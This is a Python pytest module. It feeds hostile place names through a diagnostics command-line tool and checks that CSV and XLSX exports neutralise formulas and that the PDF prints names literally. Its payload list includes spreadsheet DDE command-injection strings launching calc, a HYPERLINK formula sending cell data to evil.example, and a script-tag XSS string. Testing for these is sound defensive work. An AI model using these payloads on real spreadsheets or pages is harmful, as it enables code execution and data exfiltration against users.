"""Hostile place names through the real CLI: formulas neutralised in CSV/XLSX, everything else intact
in the GeoPackage, the partner tables and the PDF text (no expression evaluated, no HTML rendered)."""

from __future__ import annotations

import csv
import re
import sqlite3
import subprocess
import unicodedata
import xml.etree.ElementTree as ET
import zipfile

import pytest
from conftest import REFERENCE_COMMUNES

from .helpers import diagnose_args, run

pytestmark = [pytest.mark.realdata, pytest.mark.faults]
LONG = ("Tiers-lieu « très long » " * 14)[:290]
NAMES = [
    '=HYPERLINK("http://evil.example/?x="&A1;"Cliquez ici")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "<b>Médiathèque</b> <script>alert(1)</script> & Cie",
    'Espace [% 1+1 %] [% "nom" %] l\'« Atelier » "numérique" 🚀💻',
    "Ligne un\nLigne deux – " + LONG.rstrip() + " fin",
]
XLSX_NS = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}


@pytest.fixture(scope="module")
def hostile_run(shared_data, tmp_path_factory):
    """A diagnostic whose eight places of the territory carry the hostile names."""
    folder = tmp_path_factory.mktemp("hostile")
    source = shared_data / "lieux" / "lieux-centre-val-de-loire-hub-lo-2020.standard.csv"
    with open(source, encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    names = iter(NAMES)
    given = {}
    for row in rows:
        if row["code_insee"] in REFERENCE_COMMUNES:
            row["nom"] = given[row["id"]] = next(names, row["nom"])
    assert len(given) == len(NAMES), "the reference EPCI has a place per hostile name"
    assert len(NAMES[-1]) >= 300
    places = folder / "lieux.standard.csv"
    with open(places, "w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(rows[0]), quoting=csv.QUOTE_ALL)
        writer.writeheader()
        writer.writerows(rows)
    out = folder / "out"
    proc = run(
        diagnose_args(shared_data, out, "--places", str(places), "--atlas", "--export", "csv,xlsx,quality")
    )
    assert proc.returncode == 0, proc.stderr
    return out, given


def test_geopackage_keeps_every_name_exactly(hostile_run):
    out, given = hostile_run
    db = sqlite3.connect(out / "diagnostic.gpkg")
    stored = dict(db.execute("SELECT lieu_id, nom FROM lieux").fetchall())
    db.close()
    assert {k: stored.get(k) for k in given} == given


def test_csv_neutralises_formulas_and_keeps_the_text(hostile_run):
    out, given = hostile_run
    with open(out / "lieux.csv", encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle, delimiter=";"))
    names = {row["Identifiant"]: row["Nom"] for row in rows}
    for lieu_id, name in given.items():
        expected = "'" + name if name[0] in "=+-@" else name
        assert names[lieu_id] == expected
    for row in rows:  # no cell of any column may start a formula
        assert not any(v and v[0] in "=+-@\t\r" for v in row.values() if not re.fullmatch(r"-?[\d,]+", v))


def test_xlsx_has_no_formula_and_neutralised_strings(hostile_run):
    out, given = hostile_run
    with zipfile.ZipFile(out / "diagnostic.xlsx") as book:
        sheets = [n for n in book.namelist() if n.startswith("xl/worksheets/")]
        assert not any(b"<f>" in book.read(n) or b"<f " in book.read(n) for n in sheets)
        shared = ET.fromstring(book.read("xl/sharedStrings.xml"))
    strings = {"".join(t.text or "" for t in si.iter(f"{{{XLSX_NS['m']}}}t")) for si in shared}
    for name in given.values():
        assert ("'" + name if name[0] in "=+-@" else name) in strings


def test_pdf_prints_names_literally(hostile_run):
    out, given = hostile_run
    text = subprocess.run(
        ["pdftotext", "-raw", str(out / "atlas.pdf"), "-"], capture_output=True, text=True, check=True
    ).stdout
    flat = re.sub(r"\s+", "", unicodedata.normalize("NFKC", text))  # "ﬁ" ligatures back to "fi"
    for marker in (
        "[%1+1%]",
        '[%"nom"%]',
        "<b>Médiathèque</b>",
        "<script>alert(1)</script>&Cie",
        "=cmd|'/Ccalc'!A0",
        "+1+1",
        'l\'«Atelier»"numérique"',
        "LigneunLignedeux",
        re.sub(r"\s+", "", NAMES[-1]),
    ):
        assert marker in flat, marker
    assert "Espace2" not in flat  # the expression in the name was not evaluated
